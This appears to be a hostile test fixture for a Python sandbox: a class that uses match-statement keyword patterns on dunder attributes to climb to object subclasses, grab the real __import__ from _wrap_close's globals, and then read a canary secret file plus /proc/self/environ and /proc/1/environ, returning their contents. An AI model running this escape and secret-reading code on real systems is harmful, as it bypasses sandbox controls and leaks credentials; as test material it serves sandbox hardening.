"""Issue 23: keyword class patterns read dunders by name: __class__, __base__, __subclasses__, __globals__."""


class MatchSubclasses:
    name = "match_class_subclasses"

    def real_import(self):
        match ():
            case object(__class__=object(__base__=object(__subclasses__=subclasses))):
                for cls in subclasses():
                    match cls:
                        case object(__name__="_wrap_close", __init__=object(__globals__=found)):
                            return found["__builtins__"]["__import__"]
        return None

    def plan(self, ctx):
        real = self.real_import()
        found = []
        for path in ("/tmp/bilevel-hostile-canary/secret.txt", "/proc/self/environ", "/proc/1/environ"):
            try:
                found.append(real("builtins").open(path, "rb").read(200).decode("latin-1"))
            except Exception as error:
                found.append(repr(error)[:60])
        return {"guidance": " | ".join(found)[:390]}
